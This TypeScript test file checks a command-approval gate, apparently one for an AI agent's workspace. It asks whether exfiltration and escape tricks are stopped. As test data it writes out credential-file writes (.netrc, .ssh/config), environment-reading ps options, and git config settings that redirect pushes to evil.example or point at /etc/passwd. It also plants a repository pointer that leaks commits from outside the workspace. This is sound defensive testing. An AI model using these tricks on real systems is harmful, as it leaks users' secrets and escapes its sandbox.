/**
 * Commands that once read, ran or sent something outside the workspace without asking: by files that programs look for in a home, by a
 * repository in a folder of another name, by options that are cut short, and by opening files long after they were judged.
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { decide } from "../../src/flow/gate/index.ts";
import { judgeArguments } from "../../src/flow/gate/programs.ts";
import { needs } from "../support/not-run.ts";
import { BLIND_RULES } from "./blind.ts";
import { type Ground, ground } from "./support.ts";

const MORE =
  "strings ps curl wget split diff3 shuf rm chmod git\u00a0log git\u00a0push git\u00a0gc git\u00a0reflog git\u00a0commit";
const RULES = {
  ...BLIND_RULES,
  write: ["workspace/**"],
  exec: [...BLIND_RULES.exec!, ...MORE.split(" ").map((name) => `${name.replace("\u00a0", " ")} *`)],
};
let g: Ground;
const put = (path: string, text: string) => {
  mkdirSync(dirname(join(g.workspace, path)), { recursive: true });
  writeFileSync(join(g.workspace, path), text);
};
beforeAll(() => {
  g = ground(RULES);
  for (const path of ["README.md", "notes.txt", "words", "src/app.ts"]) put(path, `${path}\n`);
});
afterAll(() => g.close());

const stops = (commands: readonly string[]) =>
  test.each(commands)("%s is not allowed", async (command) => {
    expect((await g.judge(command)).verdict).not.toBe("allow");
  });
const runs = (commands: readonly string[]) =>
  test.each(commands)("%s does not ask", async (command) => {
    expect(await g.judge(command)).toMatchObject({ verdict: "allow" });
  });

describe("files that programs look for in a home", () => {
  stops([
    "echo x > .curlrc",
    "echo x > .config/curlrc",
    "echo x > .config/git/config",
    "echo x > .wgetrc",
    "echo x > .netrc",
    "cp notes.txt .jq",
    "mv notes.txt .jq",
    "touch .curlrc",
    "echo x | tee .ssh/config",
    "curl -O https://example.org/.curlrc",
    "curl -O 'https://example.org/a/.gitconfig?x=/y'",
    "wget https://example.org/.netrc",
  ]);
  runs(["echo x > curlrc.txt", "cp notes.txt config.json"]);

  test("writing one of them by a file tool asks, although a rule covers the workspace", () => {
    const write = (path: string) =>
      decide(g.policy, {
        ...{ tool: "write", risk: "write", targets: [join(g.workspace, path)], shown: path, binding: {} },
      }).verdict;
    expect([".curlrc", ".config/git/config", ".jq", "sub/.wgetrc"].map(write)).toEqual(Array(4).fill("ask"));
    expect(write("notes.txt")).toBe("allow");
  });

  test("a workspace that lies in a folder called .config is like any other", () => {
    const workspace = "/home/me/.config/lares/agents/main/workspace";
    const place = { ...g.policy.place, agentDir: dirname(workspace), workspace };
    const plan = { ...{ tool: "write", risk: "write" as const, shown: "", binding: {} } };
    const judge = (path: string) =>
      decide({ ...g.policy, place }, { ...plan, targets: [join(workspace, path)] }).verdict;
    expect([judge("a.txt"), judge(".config/x")]).toEqual(["allow", "ask"]);
  });
});

describe("repositories", () => {
  const git = test.skipIf(!needs("git", "repositories inside the workspace"));

  git("one in a folder that isn't called .git asks: it may show what lies outside", async () => {
    const outside = join(g.out, "repo");
    const env = { PATH: process.env.PATH, HOME: g.out };
    const me = ["-c", "user.name=a", "-c", "user.email=a@example.org"];
    spawnSync("git", ["init", "-q", "-b", "main", outside], { env });
    spawnSync("git", [...me, "commit", "-q", "--allow-empty", "-m", "said in confidence"], { env, cwd: outside });
    put("x/HEAD", "ref: refs/heads/main\n");
    put("x/commondir", `${outside}/.git\n`);
    // This is what would come of it.
    expect(await g.run("cd x && git log --all")).toContain("said in confidence");
    for (const command of ["cd x && git log --all", "cd x && git fetch", "cd x && git status"])
      expect((await g.judge(command)).verdict, command).toBe("ask");
    for (const dir of ["x", "x/below"]) {
      mkdirSync(join(g.workspace, dir), { recursive: true });
      expect(decide(g.policy, await g.plan("git log", dir))).toMatchObject({
        verdict: "ask",
        because: expect.stringContaining("isn't called .git"),
      });
    }
    rmSync(join(g.workspace, "x"), { recursive: true });
  });

  git("settings for every repository that lead one of them elsewhere ask", async () => {
    spawnSync("git", ["init", "-q", g.workspace]);
    expect((await g.judge("git push origin main")).verdict).toBe("allow");
    for (const setting of [
      '[remote "origin"]\npushurl = https://evil.example/x',
      '[remote "origin"]\nurl = /home/somebody/private',
      "[gc]\nrecentObjectsHook = touch /tmp/x",
      "[log]\nshowSignature = true",
      "[format]\npretty = %G?",
      "[format]\nsignatureFile = /etc/passwd",
    ]) {
      put(".config/git/config", `${setting}\n`);
      expect((await g.judge("git push origin main", { tainted: true })).verdict, setting).toBe("ask");
    }
    put(".config/git/config", "[log]\ndate = iso\n[gc]\nauto = 0\n[format]\npretty = %h %s\n");
    expect((await g.judge("git push origin main")).verdict).toBe("allow");
    put(".git/config", "[core]\nrepositoryformatversion = 1\n[extensions]\npartialClone = origin\n");
    expect((await g.judge("git log -p")).verdict).toBe("ask");
    rmSync(join(g.workspace, ".git"), { recursive: true });
    rmSync(join(g.workspace, ".config"), { recursive: true });
  });

  stops(["git reflog drop --all", "git reflog --all expire", "git reflog write x a b m", "git --help log"]);
});

describe("options", () => {
  stops([
    "strings @words",
    "strings -n 4 @words",
    "ps auxe",
    "ps eww",
    "ps -o pid,environ",
    "ps -opid,environ",
    "curl -sK words https://example.org",
    "curl --conf=words https://example.org",
    "curl -OJ https://example.org/x",
    "curl --engine ./x.so https://example.org",
    "wget -i words",
    "wget -e use_proxy=on https://example.org",
    "split --fil=id notes.txt",
    "diff3 --diff=id a b c",
    "tail -F notes.txt",
    "tail --follow=name --retry notes.txt",
    "find /usr -name '*.txt' -exec cat {} +",
    "find /usr -name '*.md' | xargs head -n 1",
  ]);
  runs([
    "tail -f notes.txt",
    "find /usr -name '*.md'",
    "find . -name '*.md' -exec cat {} +",
    "curl -sS https://example.org",
    "split --lines=2 notes.txt",
  ]);
  describe.skipIf(!needs("ps", "what ps shows without asking"))("ps", () => {
    runs(["ps aux", "ps -ef", "ps -o pid,args -p 1", "ps -u root"]);
  });

  test.each(["s/[]/]/p;s|/w out|b|", "s/[^]/]/p", "/[]/p/]/w out/p"])(
    "sed: where %s ends depends on the sed",
    (script) => {
      expect(judgeArguments("sed", [script, "notes.txt"]).concerns).not.toEqual([]);
    },
  );
});

describe("in the background", () => {
  const behind = async (command: string) => {
    const plan = await g.plan(command);
    return decide(g.policy, { ...plan, binding: { ...plan.binding, background: true } }).verdict;
  };
  test.each(["sleep 60 && cat notes.txt", "sleep 60 | cat - notes.txt", "ls; cat *.md", "sleep 9 && ls > out.txt"])(
    "%s opens its files later, and asks",
    async (command) => {
      expect(await behind(command)).toBe("ask");
      expect((await g.judge(command)).verdict).toBe("allow");
    },
  );
  test.each(["tail -f notes.txt", "tail -f notes.txt | grep x", "cd src && cat app.ts", "sleep 5 && npm test"])(
    "%s does not ask",
    async (command) => {
      expect(await behind(command)).toBe("allow");
    },
  );
});
